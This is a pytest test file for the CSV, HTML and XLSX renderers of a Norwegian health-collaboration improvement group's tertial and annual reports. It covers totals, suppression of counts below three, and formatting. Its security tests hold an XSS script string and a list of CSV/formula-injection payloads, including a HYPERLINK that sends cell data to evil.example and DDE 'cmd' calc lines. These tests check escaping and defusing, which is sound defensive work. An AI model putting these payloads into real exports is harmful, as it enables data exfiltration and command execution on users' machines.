"""Renderers of the tertial/annual report: CSV (exact, golden), HTML and XLSX (suppressed)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from intake.i18n import Translator
from intake.reporting.model import (
    Breakdown,
    LearningPoint,
    Period,
    PeriodReport,
    Row,
    TrendPoint,
)
from intake.reporting.render_html import render_html
from intake.reporting.render_tables import (
    CSV_COLUMNS,
    CSV_LEARNING_COLUMNS,
    CSV_TOTAL_KEY,
    render_csv,
    render_xlsx,
)
from intake.reporting.spreadsheet import EXCEL_NB, FORMULA_START, CsvWriter, csv_cell, formula_like

TR = Translator("nb")

T1_2026 = Period("2026-T1", "1. tertial 2026", date(2026, 1, 1), date(2026, 4, 30))
T3_2025 = Period("2025-T3", "3. tertial 2025", date(2025, 9, 1), date(2025, 12, 31))
T1_2025 = Period("2025-T1", "1. tertial 2025", date(2025, 1, 1), date(2025, 4, 30))

SCRIPT_POINT = '<script>alert("x")</script> & "sitat"'


def _breakdown(key: str, title: str, rows: list[tuple[str, str, int, int, int]]) -> Breakdown:
    return Breakdown(key=key, title=title,
                     rows=tuple(Row(k, label, n, prev, ago) for k, label, n, prev, ago in rows),
                     total=sum(r[2] for r in rows), total_previous=sum(r[3] for r in rows),
                     total_year_ago=sum(r[4] for r in rows))


def sample_report(*, suppressed: bool = True) -> PeriodReport:
    """1. tertial 2026 with 47 reports: 11 categories (two of them empty, two below 3)."""
    breakdowns = (
        _breakdown("kind", "Type melding", [
            ("deviation", "Avvik", 38, 33, 29),
            ("suggestion", "Forbedringsforslag", 6, 6, 4),
            ("input", "Innspill eller spørsmål", 3, 2, 2),
        ]),
        _breakdown("category", "Kategori", [
            ("discharge_summary", "Epikrise", 12, 10, 9),
            ("discharge_notice", "Varsling ved innleggelse/utskriving", 9, 8, 6),
            ("medication", "Legemidler", 7, 5, 5),
            ("referral", "Henvisning", 5, 6, 3),
            ("admission", "Innleggelse", 2, 4, 1),
            ("follow_up", "Oppfølging og ansvar", 4, 2, 3),
            ("e_messaging", "Elektronisk meldingsutveksling", 3, 3, 4),
            ("reachability", "Tilgjengelighet (svar, vakthavende, telefon)", 1, 0, 2),
            ("routines", "Rutiner og samarbeidsavtale", 0, 1, 0),
            ("competence", "Kompetanse og opplæring", 0, 0, 0),
            ("other", "Annet", 4, 2, 2),
        ]),
        _breakdown("subcategory", "Underkategori", [
            ("discharge_summary/missing", "Epikrise: mangler", 7, 6, 5),
            ("discharge_summary/late", "Epikrise: forsinket", 5, 4, 4),
            ("discharge_notice/discharged_without_notice",
             "Varsling: utskrevet uten varsel", 6, 5, 4),
            ("discharge_notice/discharge_timing", "Varsling: tidspunkt for utskriving",
             3, 3, 2),
            ("medication/med_list", "Legemidler: legemiddelliste", 4, 3, 3),
            ("medication/unexplained_change", "Legemidler: uforklart endring", 3, 2, 2),
            ("referral/rejected_or_returned", "Henvisning: avvist eller returnert", 5, 4, 2),
            ("admission/admission_report_missing", "Innleggelse: innleggelsesrapport mangler",
             2, 3, 1),
            ("follow_up/test_results", "Oppfølging: prøvesvar", 4, 2, 3),
            ("e_messaging/not_received", "Meldingsutveksling: ikke mottatt", 3, 2, 3),
            ("", "Uten underkategori", 5, 7, 6),
        ]),
        _breakdown("reported_severity", "Alvorlighet (meldt)", [
            ("none", "Ingen/ubetydelig konsekvens", 5, 6, 4),
            ("minor", "Mindre alvorlig", 20, 17, 15),
            ("moderate", "Moderat skade", 12, 9, 8),
            ("significant", "Betydelig skade", 6, 4, 3),
            ("severe", "Alvorlig skade eller død", 2, 1, 2),
            ("unknown", "Ukjent", 2, 4, 3),
        ]),
        _breakdown("assessed_severity", "Alvorlighet (vurdert av gruppen)", [
            ("none", "Ingen/ubetydelig konsekvens", 8, 7, 5),
            ("minor", "Mindre alvorlig", 19, 16, 14),
            ("moderate", "Moderat skade", 10, 8, 7),
            ("significant", "Betydelig skade", 4, 3, 3),
            ("severe", "Alvorlig skade eller død", 1, 1, 0),
            ("unknown", "Ikke vurdert", 5, 6, 6),
        ]),
        _breakdown("severity_merged", "Alvorlighet (vurdert, slått sammen)", [
            ("none_minor", "Mindre alvorlig/ingen/ubetydelig konsekvens", 27, 23, 19),
            ("moderate", "Moderat skade", 10, 8, 7),
            ("significant", "Betydelig skade", 4, 3, 3),
            ("severe", "Alvorlig skade eller død", 1, 1, 0),
            ("unknown", "Ikke vurdert", 5, 6, 6),
        ]),
        _breakdown("direction", "Retning", [
            ("municipality_hospital", "Kommune → sykehus", 18, 15, 13),
            ("gp_hospital", "Fastlege → sykehus", 17, 14, 12),
            ("hospital_municipality", "Sykehus → kommune", 7, 8, 6),
            ("hospital_gp", "Sykehus → fastlege", 3, 2, 2),
            ("other", "Annen", 2, 2, 2),
        ]),
        _breakdown("place", "Sted", [
            ("stolav_medisinsk", "St. Olavs: Medisinsk klinikk", 14, 12, 10),
            ("stolav_ortopedi", "St. Olavs: Ortopedi", 11, 9, 8),
            ("trondheim", "Trondheim kommune", 9, 8, 7),
            ("malvik", "Malvik kommune", 6, 5, 4),
            ("orkland", "Orkland kommune", 5, 4, 4),
            ("", "Ikke oppgitt", 2, 3, 2),
        ]),
        _breakdown("month", "Måned", [
            ("2026-01", "januar 2026", 13, 10, 8),
            ("2026-02", "februar 2026", 11, 9, 9),
            ("2026-03", "mars 2026", 15, 12, 10),
            ("2026-04", "april 2026", 8, 10, 8),
        ]),
    )
    return PeriodReport(
        period=T1_2026, previous=T3_2025, year_ago=T1_2025,
        total=47, total_previous=41, total_year_ago=35,
        breakdowns=breakdowns,
        guideline_breached_share=10 / 38,
        top_problem_areas=(
            Row("discharge_summary/missing", "Epikrise: mangler", 7, 6, 5),
            Row("discharge_notice/discharged_without_notice", "Varsling: utskrevet uten varsel",
                6, 5, 4),
            Row("discharge_summary/late", "Epikrise: forsinket", 5, 4, 4),
            Row("referral/rejected_or_returned", "Henvisning: avvist eller returnert", 5, 4, 2),
            Row("admission/admission_report_missing", "Innleggelse: innleggelsesrapport mangler",
                2, 3, 1),
        ),
        learning_points=(
            LearningPoint("MELD-2026-0003", "Epikrise",
                          "Epikrisen ble sendt til feil fastlege etter fastlegebytte; "
                          "adresseringen hentes nå fra Fastlegeregisteret på utskrivingsdagen.",
                          "Rutine for kontroll av mottaker før sending (Medisinsk klinikk).",
                          date(2026, 2, 12)),
            LearningPoint("MELD-2026-0011", "Legemidler", SCRIPT_POINT,
                          "Opplæring i legemiddelavstemming – «sjekkliste» for sykepleiere, "
                          "Ørland og Åfjord.", date(2026, 3, 20)),
            LearningPoint("MELD-2026-0020", "Varsling ved innleggelse/utskriving",
                          "Kommunen ble ikke varslet om utskrivingsklar pasient fredag kveld.",
                          "", date(2026, 4, 28)),
        ),
        feedback_share=44 / 47,
        median_days_to_feedback=2.5,
        trend=tuple(TrendPoint(k, n) for k, n in (
            ("2023-T2", 2), ("2023-T3", 9), ("2024-T1", 17), ("2024-T2", 22),
            ("2024-T3", 30), ("2025-T1", 35), ("2025-T2", 28), ("2025-T3", 41),
            ("2026-T1", 47))),
        suppressed=suppressed,
    )


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- CSV ----------------------------------------------------------------------------------


def small_report() -> PeriodReport:
    """A fixed, small report for the golden CSV (free text with comma, quote, newline)."""
    return PeriodReport(
        period=T1_2026, previous=T3_2025, year_ago=T1_2025,
        total=5, total_previous=4, total_year_ago=0,
        breakdowns=(
            _breakdown("kind", "Type melding", [
                ("deviation", "Avvik", 4, 3, 0), ("suggestion", "Forbedringsforslag", 1, 1, 0),
                ("input", "Innspill eller spørsmål", 0, 0, 0)]),
            Breakdown("category", "Kategori", (
                Row("discharge_summary", "Epikrise", 3, 2, None),
                Row("medication", "Legemidler", 2, 2, None),
                Row("competence", "Kompetanse og opplæring", 0, 0, None)), total=5,
                total_previous=4),
        ),
        guideline_breached_share=0.25,
        top_problem_areas=(Row("discharge_summary/missing", "Epikrise: mangler", 3, 1, 0),),
        learning_points=(
            LearningPoint("MELD-2026-0002", "Epikrise", 'Send "ferdig" epikrise, også ved\n'
                          "helg", "=Rutine, se avtalen", date(2026, 3, 3)),
        ),
        feedback_share=0.8, median_days_to_feedback=1.0,
        trend=(TrendPoint("2025-T3", 4), TrendPoint("2026-T1", 5)),
        suppressed=True,  # CSV ignores it: the group's file is exact
    )


GOLDEN_CSV = """\
section,key,label,count,previous,year_ago
meta,note,"Tall uten skjerming (også tall under 3): bare for Forbedringsgruppen, skal ikke deles.",,,
meta,period,1. tertial 2026 (2026-01-01 – 2026-04-30),,,
meta,previous,3. tertial 2025 (2025-09-01 – 2025-12-31),,,
meta,year_ago,1. tertial 2025 (2025-01-01 – 2025-04-30),,,
kind,deviation,Avvik,4,3,0
kind,suggestion,Forbedringsforslag,1,1,0
kind,input,Innspill eller spørsmål,0,0,0
kind,_total,Sum,5,4,0
category,discharge_summary,Epikrise,3,2,
category,medication,Legemidler,2,2,
category,competence,Kompetanse og opplæring,0,0,
category,_total,Sum,5,4,
top_problem_areas,discharge_summary/missing,Epikrise: mangler,3,1,0
trend,2025-T3,T3 2025,4,,
trend,2026-T1,T1 2026,5,,
totals,reports,Meldinger i alt,5,4,0
totals,guideline_breached_share,Andel avvik med brudd på retningslinje,0.2500,,
totals,feedback_share,Andel meldinger der melderen fikk tilbakemelding,0.8000,,
totals,median_days_to_feedback,Median dager til første tilbakemelding,1.0,,

section,reference,category,closed_on,learning_point,measure
learning_point,MELD-2026-0002,Epikrise,2026-03-03,"Send ""ferdig"" epikrise, også ved
helg","'=Rutine, se avtalen"
"""  # noqa: E501


def test_csv_golden() -> None:
    assert render_csv(small_report(), TR) == GOLDEN_CSV


def test_csv_every_breakdown_adds_up_to_its_total_and_the_report_total() -> None:
    report = sample_report()
    rows = _csv_rows(render_csv(report, TR))
    assert tuple(rows[0]) == CSV_COLUMNS
    sections: dict[str, list[list[str]]] = {}
    for row in rows[1:]:
        if not row:
            break
        sections.setdefault(row[0], []).append(row)
    for breakdown in report.breakdowns:
        lines = sections[breakdown.key]
        body = [r for r in lines if r[1] != CSV_TOTAL_KEY]
        (total_line,) = [r for r in lines if r[1] == CSV_TOTAL_KEY]
        assert len(body) == len(breakdown.rows)
        assert sum(int(r[3]) for r in body) == int(total_line[3]) == report.total, breakdown.key
        # the sum row carries the comparisons too
        assert sum(int(r[4]) for r in body) == int(total_line[4]) == report.total_previous
        assert sum(int(r[5]) for r in body) == int(total_line[5]) == report.total_year_ago
    assert sections["totals"][0][1:4] == ["reports", "Meldinger i alt", "47"]
    # zero categories are still rows
    assert ["category", "competence", "Kompetanse og opplæring", "0", "0", "0"] in rows


def test_csv_is_never_suppressed_and_keeps_free_text() -> None:
    text = render_csv(sample_report(suppressed=True), TR)
    rows = _csv_rows(text)
    assert "<3" not in text
    assert ["category", "admission", "Innleggelse", "2", "4", "1"] in rows
    assert ["category", "reachability", "Tilgjengelighet (svar, vakthavende, telefon)", "1", "0",
            "2"] in rows
    learning = rows[rows.index(list(CSV_LEARNING_COLUMNS)) + 1:]
    assert [r[1] for r in learning] == ["MELD-2026-0003", "MELD-2026-0011", "MELD-2026-0020"]
    assert learning[1][4] == SCRIPT_POINT  # CSV is data, not markup: kept as typed
    assert "Ørland og Åfjord" in learning[1][5]
    assert "bare for Forbedringsgruppen" in rows[1][2]


# --- HTML ---------------------------------------------------------------------------------


def _row_cells(html: str, label: str) -> list[str]:
    """The cells of the first table row whose header is `label`."""
    m = re.search(rf'<tr><th scope="row">{re.escape(label)}</th>(.*?)</tr>', html)
    assert m, label
    return re.findall(r'<td class="num">(.*?)</td>', m.group(1))


def test_html_is_self_contained_and_printable() -> None:
    html = render_html(sample_report(), TR)
    assert html.startswith("<!DOCTYPE html>") and '<html lang="nb">' in html
    assert not re.search(r"https?://|//[a-z]", html)
    for ref in ("src=", "href=", "<link", "<script", "@import", "<img", "<iframe"):
        assert ref not in html.lower(), ref
    assert set(re.findall(r"url\(([^)]*)\)", html)) <= {
        "#chart-category-hatch", "#chart-trend-hatch"}
    assert "@page { size: A4" in html and "break-before: page" in html
    assert html.count("<svg") == 2  # bars per category and the trend line
    assert "<polyline" in html and html.count("<rect") >= 9


def test_html_has_norwegian_labels_and_numbers() -> None:
    html = render_html(sample_report(suppressed=False), TR)
    assert "Tertialrapport fra Forbedringsgruppen" in html
    assert "1. januar 2026 – 30. april 2026" in html
    assert "Læringspunkter og tiltak" in html and "Nøkkeltall" in html
    # 47 against 41 and against 35; Norwegian percent with a no-break space, real minus sign
    assert "mot 3. tertial 2025: +6 (+15\xa0%)" in html
    assert "mot 1. tertial 2025: +12 (+34\xa0%)" in html
    assert ">26\xa0%<" in html  # 10 of 38 deviations breached a guideline
    assert ">94\xa0%<" in html and ">2,5<" in html
    assert _row_cells(html, "Henvisning") == ["5", "11\xa0%", "6", "−1 (−17\xa0%)", "3",
                                              "+2 (+67\xa0%)"]


def test_html_suppresses_counts_below_three_in_tables_and_charts() -> None:
    html = render_html(sample_report(suppressed=True), TR)
    assert "Tall under 3 vises som «&lt;3»" in html
    # Innleggelse: 2 now, 4 before, 1 a year ago -> no exact small number, no change
    assert _row_cells(html, "Innleggelse") == ["&lt;3", "–", "4", "–", "&lt;3", "–"]
    assert _row_cells(html, "Tilgjengelighet (svar, vakthavende, telefon)") == [
        "&lt;3", "–", "0", "–", "&lt;3", "–"]
    assert _row_cells(html, "Kompetanse og opplæring") == ["0", "0\xa0%", "0", "±0", "0",
                                                           "±0"]
    assert _row_cells(html, "Epikrise") == ["12", "26\xa0%", "10", "+2 (+20\xa0%)", "9",
                                            "+3 (+33\xa0%)"]
    chart = html[html.index("<svg"):html.index("</svg>")]
    labels = re.findall(r"<text[^>]*>([^<]*)</text>", chart)
    assert labels.count("&lt;3") == 2 and "1" not in labels and "2" not in labels
    # suppressed bars are hatched and all of the same length, whatever 1 or 2
    hatched = re.findall(r'<rect x="[\d.]+" y="[\d.]+" width="([\d.]+)"[^>]*hatch\)', chart)
    assert len(hatched) == 2 and len(set(hatched)) == 1
    # the trend's first tertial (2 reports) is "<3" too
    trend = html[html.index('id="chart-trend-t"'):]
    trend = trend[:trend.index("</svg>")]
    assert "&lt;3" in trend and ">2<" not in trend


def test_html_unsuppressed_shows_exact_numbers() -> None:
    html = render_html(sample_report(suppressed=False), TR)
    assert "&lt;3" not in html
    assert "bare for Forbedringsgruppen" in html
    assert _row_cells(html, "Innleggelse") == ["2", "4\xa0%", "4", "−2 (−50\xa0%)", "1",
                                               "+1 (+100\xa0%)"]
    chart = html[html.index("<svg"):html.index("</svg>")]
    assert "hatch)" not in chart.split("</defs>")[1]
    assert ">2</text>" in chart and ">1</text>" in chart


def test_html_escapes_free_text() -> None:
    report = sample_report()
    report = replace(report, breakdowns=(
        *report.breakdowns,
        Breakdown("place", "Sted <b>", (Row("x", "A & B <i>", 47),), total=47)))
    html = render_html(report, TR)
    assert "<script" not in html and "<b>" not in html and "<i>" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &quot;sitat&quot;" in html
    assert "A &amp; B &lt;i&gt;" in html
    assert "Ørland og Åfjord" in html


def test_html_share_of_a_small_group_is_not_shown_when_suppressed() -> None:
    report = sample_report()
    kind = replace(report.breakdowns[0], rows=(Row("deviation", "Avvik", 2), Row(
        "suggestion", "Forbedringsforslag", 45)), total=47)
    report = replace(report, breakdowns=(kind, *report.breakdowns[1:]),
                     guideline_breached_share=0.5)
    assert "Vises ikke: færre enn 3." in render_html(report, TR)
    assert ">50\xa0%<" in render_html(replace(report, suppressed=False), TR)


def test_html_annual_report_and_empty_period() -> None:
    y2026 = Period("2026", "2026", date(2026, 1, 1), date(2026, 12, 31))
    y2025 = Period("2025", "2025", date(2025, 1, 1), date(2025, 12, 31))
    empty = PeriodReport(
        period=y2026, previous=y2025, year_ago=y2025, total=0, total_previous=3,
        total_year_ago=3,
        breakdowns=(_breakdown("category", "Kategori", [("other", "Annet", 0, 3, 3)]),),
        guideline_breached_share=None, top_problem_areas=(), learning_points=(),
        feedback_share=None, median_days_to_feedback=None, trend=(), suppressed=True)
    html = render_html(empty, TR)
    assert "Årsrapport fra Forbedringsgruppen" in html
    assert html.count("mot 2025") == 1  # previous and a year ago are the same year
    assert "Ingen læringspunkter er registrert i perioden." in html
    assert "Ingen avvik i perioden." in html and "Ingen data." in html
    assert _row_cells(html, "Annet") == ["0", "–", "3", "−3 (−100\xa0%)"]
    # the annual report rings the year's three tertials in the trend
    trend = tuple(TrendPoint(f"{y}-T{n}", 5) for y in (2024, 2025, 2026) for n in (1, 2, 3))
    assert render_html(replace(empty, trend=trend), TR).count('r="6.5"') == 3
    assert render_html(sample_report(), TR).count('r="6.5"') == 1


# --- XLSX ---------------------------------------------------------------------------------


def _workbook(report: PeriodReport):
    openpyxl = pytest.importorskip("openpyxl")
    return openpyxl.load_workbook(io.BytesIO(render_xlsx(report, TR)))


def _sheet_rows(ws) -> list[list[object]]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_xlsx_has_a_sheet_per_breakdown() -> None:
    report = sample_report()
    wb = _workbook(report)
    # a title too long for a tab is cut between words; the merged severity has a short name
    assert wb.sheetnames == ["Oversikt", "Type melding", "Kategori", "Underkategori",
                             "Alvorlighet (meldt)", "Alvorlighet (vurdert av…)",
                             "Alvorlighet (vurdert el. meldt)", "Retning", "Sted", "Måned",
                             "Læringspunkter"]
    merged = wb["Alvorlighet (vurdert el. meldt)"]
    assert merged["A1"].value == "Alvorlighet (vurdert, slått sammen)"  # the title as heading
    for ws in wb.worksheets:
        assert len(ws.title) <= 31
        assert all(c.font.b for c in ws[6 if ws.title == "Oversikt" else 1] if c.value)
        assert ws.column_dimensions["A"].width >= 8
    kind = _sheet_rows(wb["Type melding"])
    assert kind[0] == ["Type melding", "1. tertial 2026", "3. tertial 2025", "1. tertial 2025"]
    assert kind[-1] == ["Sum", 47, 41, 35]  # the sum row has the comparisons too
    exact = _sheet_rows(_workbook(sample_report(suppressed=False))["Type melding"])
    assert [sum(r[c] for r in exact[1:-1]) for c in (1, 2, 3)] == exact[-1][1:] == [47, 41, 35]
    assert all(c.font.b for c in wb["Type melding"][len(kind)])


def test_xlsx_applies_suppression() -> None:
    wb = _workbook(sample_report(suppressed=True))
    rows = {r[0]: tuple(r[1:]) for r in _sheet_rows(wb["Kategori"])}
    assert rows["Innleggelse"] == ("<3", 4, "<3")
    assert rows["Tilgjengelighet (svar, vakthavende, telefon)"] == ("<3", 0, "<3")
    assert rows["Kompetanse og opplæring"] == (0, 0, 0)
    overview = _sheet_rows(wb["Oversikt"])
    assert ["T3 2023", 9] in [r[:2] for r in overview]
    assert ["T2 2023", "<3"] in [r[:2] for r in overview]
    assert any(r[0] == "Tall under 3 vises som «<3»." for r in overview)

    exact = _workbook(sample_report(suppressed=False))
    assert {r[0]: tuple(r[1:]) for r in _sheet_rows(exact["Kategori"])}["Innleggelse"] == (
        2, 4, 1)


def test_xlsx_sheet_names_are_valid_and_unique() -> None:
    report = sample_report()
    long_title = "Kategori/underkategori: [alle] * ? " + "x" * 40
    titles = ("Kategori", "KATEGORI", long_title, long_title, "y" * 40, "'Sitat'",
              "Samarbeid mellom kommunehelsetjenesten og sykehuset",
              "Samarbeid mellom kommunehelsetjenesten og sykehuset (fastleger)")
    extra = tuple(Breakdown(f"extra{i}", title, (Row("a", "A", 47),), 47)
                  for i, title in enumerate(titles))
    names = _workbook(replace(report, breakdowns=report.breakdowns + extra)).sheetnames
    assert names[-9:-1] == [
        "Kategori (2)", "KATEGORI (3)", "Kategori-underkategori alle…",
        "Kategori-underkategori… (2)",
        "y" * 30 + "…",  # one word longer than a tab: nothing but to cut it
        "Sitat", "Samarbeid mellom…", "Samarbeid mellom… (2)"]
    assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)
    assert len({n.casefold() for n in names}) == len(names)


@pytest.mark.parametrize("title", [
    "Alvorlighetsgrad (vurdert, ellers meldt)", "Severity (assessed, else reported)",
    "Samarbeidsavtalens retningslinjer for utskrivningsklare pasienter",
    "Kommune – sykehus, meldinger om legemiddellister", "Et veldig langt navn på en tabell ja"])
def test_xlsx_sheet_names_are_cut_between_words(title: str) -> None:
    report = sample_report()
    extra = Breakdown("extra", title, (Row("a", "A", 47),), 47)
    name = _workbook(replace(report, breakdowns=(extra,))).sheetnames[1]
    assert len(name) <= 31 and name.endswith(("…", "…)"))
    kept = name.removesuffix(")").removesuffix("…")
    # what is kept is whole words of the title, and an opened parenthesis is closed
    assert title.startswith(kept) and title[len(kept)] in " ,:;–-"
    assert name.count("(") == name.count(")")


def test_xlsx_learning_points_are_text_never_formulas() -> None:
    report = replace(sample_report(), learning_points=(
        LearningPoint("MELD-2026-0030", "Annet", "=HYPERLINK(\"x\",\"klikk\")", "+1 tiltak",
                      date(2026, 4, 1)), *sample_report().learning_points))
    ws = _workbook(report)["Læringspunkter"]
    rows = _sheet_rows(ws)
    assert rows[0] == ["Melding", "Kategori", "Lukket", "Læringspunkt", "Tiltak"]
    assert rows[1][3] == "=HYPERLINK(\"x\",\"klikk\")" and ws["D2"].data_type == "s"
    assert rows[3][3] == SCRIPT_POINT and rows[1][2].date() == date(2026, 4, 1)
    assert len(rows) == 5


# --- spreadsheet-safe cells, in every writer ---------------------------------------------

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Avtale")', "+47 cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_defused_and_numbers_are_not(text: str) -> None:
    assert formula_like(text) and csv_cell(text) == "'" + text.replace("\r", "\n")
    for number in (-3, -0.25, 0, 12, "-3", "-0.25", "+5", "-1,5", "-2e3"):
        assert not formula_like(number) and csv_cell(number) in (number, str(number))
    assert csv_cell(-0.25, EXCEL_NB) == "-0,25" and csv_cell(None) == ""
    assert not formula_like(" =1") and not formula_like("a=1") and not formula_like("")


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.one_of(st.text(max_size=12),
                 st.tuples(st.sampled_from(FORMULA_START), st.text(max_size=12))
                 .map("".join)))
def test_no_csv_cell_starts_a_formula(text: str) -> None:
    """Whatever the text, the cell read back is the text, or the text behind an
    apostrophe when a spreadsheet would run it; a plain number stays as it is."""
    out = io.StringIO()
    CsvWriter(out, EXCEL_NB).writerow([text, -7])
    (cell, number), = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";")
    assert number == "-7"
    lines = text.replace("\r\n", "\n").replace("\r", "\n")  # one kind of line break
    if cell.startswith(FORMULA_START):
        assert re.fullmatch(r"[+-][\d.,eE+-]+", cell) and cell == text
    else:
        assert cell == ("'" + lines if text.startswith(FORMULA_START) else lines)


def _hostile_report() -> PeriodReport:
    """Every kind of free text in the report starts like a formula."""
    report = small_report()
    kind = replace(report.breakdowns[0], rows=(Row("deviation", HOSTILE[1], 5, 4, 0),),
                   title=HOSTILE[2])
    return replace(
        report, breakdowns=(kind, *report.breakdowns[1:]),
        top_problem_areas=(Row("x/y", HOSTILE[3], 3, 1, 0),),
        learning_points=(LearningPoint("MELD-2026-0002", HOSTILE[0], HOSTILE[4], HOSTILE[5],
                                       date(2026, 3, 3)),))


@pytest.mark.parametrize("dialect", ["standard", "excel-nb"])
def test_csv_defuses_formulas_in_every_text_cell(dialect: str) -> None:
    delimiter = ";" if dialect == "excel-nb" else ","
    rows = list(csv.reader(io.StringIO(render_csv(_hostile_report(), TR, dialect),
                                       newline=""), delimiter=delimiter))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for text in (HOSTILE[1], HOSTILE[3], HOSTILE[0], HOSTILE[4]):
        assert "'" + text in cells
    learning = rows[-1]
    assert learning[2:] == ["'" + HOSTILE[0], "2026-03-03", "'" + HOSTILE[4],
                            "'\n=1+1"]  # a lone carriage return is a line break


def test_csv_for_a_norwegian_excel() -> None:
    """excel-nb: semicolons and decimal commas; the same cells otherwise."""
    report = replace(small_report(), learning_points=(LearningPoint(
        "MELD-2026-0002", "Epikrise", "Sjekk; så send", "Æ, ø og å", date(2026, 3, 3)),))
    standard = _csv_rows(render_csv(report, TR))
    text = render_csv(report, TR, "excel-nb")
    nb = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert text.startswith("section;key;label;count;previous;year_ago\n")
    assert ["totals", "guideline_breached_share", "Andel avvik med brudd på retningslinje",
            "0,2500", "", ""] in nb
    assert ["totals", "median_days_to_feedback", "Median dager til første tilbakemelding",
            "1,0", "", ""] in nb
    assert nb[-1][4:] == ["Sjekk; så send", "Æ, ø og å"] and '"Sjekk; så send"' in text
    assert [[c.replace(",", ".") if re.fullmatch(r"\d+,\d+", c) else c for c in r]
            for r in nb] == standard


def test_xlsx_defuses_formulas_in_every_text_cell() -> None:
    wb = _workbook(_hostile_report())
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert {c.value for c in texts} >= {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]}
    # text cells, never formulas, with Excel's quote prefix: editing one keeps it text
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    numbers = [c for row in wb["Oversikt"].iter_rows() for c in row
               if isinstance(c.value, int)]
    assert numbers and not any(c.quotePrefix for c in numbers)


# --- the sum rows and the trend ----------------------------------------------------------


def test_html_sum_row_has_the_comparisons() -> None:
    html = render_html(sample_report(suppressed=False), TR)
    total = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>', html)
    assert len(total) == len(sample_report().breakdowns)
    assert re.findall(r'<td class="num">(.*?)</td>', total[0]) == [
        "47", "100\xa0%", "41", "+6 (+15\xa0%)", "35", "+12 (+34\xa0%)"]
    # a table without a comparison (a tertial's months against the previous tertial)
    months = replace(sample_report().breakdowns[-1], total_previous=None, rows=tuple(
        replace(r, previous=None) for r in sample_report().breakdowns[-1].rows))
    report = replace(sample_report(), breakdowns=(months,))
    (row,) = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>',
                        render_html(report, TR))
    assert re.findall(r'<td class="num">(.*?)</td>', row) == [
        "47", "100\xa0%", "35", "+12 (+34\xa0%)"]


def test_sum_row_comparisons_are_suppressed_like_any_count() -> None:
    small = replace(sample_report().breakdowns[0], total=2, total_previous=5, total_year_ago=1)
    report = replace(sample_report(suppressed=True), breakdowns=(small,))
    (row,) = re.findall(r'<tr class="sum"><th scope="row">Sum</th>(.*?)</tr>',
                        render_html(report, TR))
    assert re.findall(r'<td class="num">(.*?)</td>', row) == [
        "&lt;3", "100\xa0%", "5", "–", "&lt;3", "–"]
    assert _sheet_rows(_workbook(report)["Type melding"])[-1] == ["Sum", "<3", 5, "<3"]


def _missing_trend(report: PeriodReport) -> PeriodReport:
    """The first report came in 2024-T2: the four tertials before have no data."""
    counts = [None, None, None, None, 0, 30, 35, 41, 47]
    keys = [p.period for p in report.trend]
    return replace(report, trend=tuple(TrendPoint(k, n) for k, n in zip(keys, counts,
                                                                          strict=True)))


def test_trend_before_the_first_report_is_no_data_not_zero() -> None:
    report = _missing_trend(sample_report(suppressed=False))
    html = render_html(report, TR)
    trend = html[html.index('id="chart-trend-t"'):]
    trend = trend[:trend.index("</svg>")]
    # five points (the zero of 2024-T3 is a real zero), on one line from 2024-T3
    assert trend.count('r="3.5"') == 5 and trend.count("<polyline") == 1
    (line,) = re.findall(r'<polyline points="([^"]*)"', trend)
    assert len(line.split()) == 5
    labels = re.findall(r"<text[^>]*>([^<]*)</text>", trend)
    assert labels.count("–") == 4 and labels.count("0") == 2  # the axis tick and 2024-T3
    assert "Ingen data før den første meldingen (–)." in html

    rows = _csv_rows(render_csv(report, TR))
    trend_rows = [r[1:4] for r in rows if r and r[0] == "trend"]
    assert trend_rows[:5] == [["2023-T2", "T2 2023", ""], ["2023-T3", "T3 2023", ""],
                              ["2024-T1", "T1 2024", ""], ["2024-T2", "T2 2024", ""],
                              ["2024-T3", "T3 2024", "0"]]
    overview = [r[:2] for r in _sheet_rows(_workbook(report)["Oversikt"])]
    assert ["T2 2024", "ingen data"] in overview and ["T3 2024", 0] in overview

    nothing = replace(report, trend=tuple(TrendPoint(p.period, None) for p in report.trend))
    html = render_html(nothing, TR)
    assert 'id="chart-trend-t"' not in html and "Ingen data." in html
    # every point has data: no note about missing ones
    assert "Ingen data før" not in render_html(sample_report(), TR)
